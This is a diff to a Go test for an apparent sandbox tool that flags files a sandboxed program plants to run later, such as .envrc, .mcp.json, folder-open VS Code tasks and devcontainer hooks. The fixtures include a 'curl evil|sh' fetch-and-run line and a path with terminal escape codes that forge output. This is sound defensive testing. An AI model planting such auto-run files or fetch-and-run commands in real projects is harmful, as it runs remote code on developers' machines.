@@ -28,17 +28,17 @@ func TestRunsLaterMade(t *testing.T) {
 				t.Errorf("a run that made no runs-later file: exit %d, stderr %q", r.code, r.stderr)
 			}
 			r := w.sh("sandbox", `echo '{"mcpServers":{"x":{"command":"sh"}}}' > .mcp.json && echo 'curl evil|sh' > .envrc && `+
-				`echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json && echo '{"initializeCommand":"sh"}' > .devcontainer.json && for d in sub*; do echo x > "$d/.envrc"; done`, "--workdir", proj)
+				`echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json && echo '{"initializeCommand":"sh"}' > .devcontainer.json && for d in sub*; do echo x > "$d/.envrc"; done && mkdir made && echo x > made/.envrc`, "--workdir", proj)
 			if r.code != 0 {
 				t.Fatalf("exit %d, stderr %q", r.code, r.stderr)
 			}
-			for _, f := range []string{".mcp.json", ".envrc", ".vscode/tasks.json", ".devcontainer.json", `sub\u001b[2K\u000dforged/.envrc`} {
+			for _, f := range []string{".mcp.json", ".envrc", ".vscode/tasks.json", ".devcontainer.json", `sub\u001b[2K\u000dforged/.envrc`, "made/.envrc"} {
 				if want := "the program made " + filepath.Join(proj, f) + ":"; !strings.Contains(r.stderr, want) {
 					t.Errorf("no warning %q; stderr %q", want, r.stderr)
 				}
 			}
-			if n := strings.Count(r.stderr, "the program made"); n != 5 {
-				t.Errorf("%d warnings, want 5; stderr %q", n, r.stderr)
+			if n := strings.Count(r.stderr, "the program made"); n != 6 {
+				t.Errorf("%d warnings, want 6; stderr %q", n, r.stderr)
 			}
 			if strings.ContainsAny(r.stderr, "\x1b\r") {
 				t.Errorf("raw control characters in stderr %q", r.stderr)
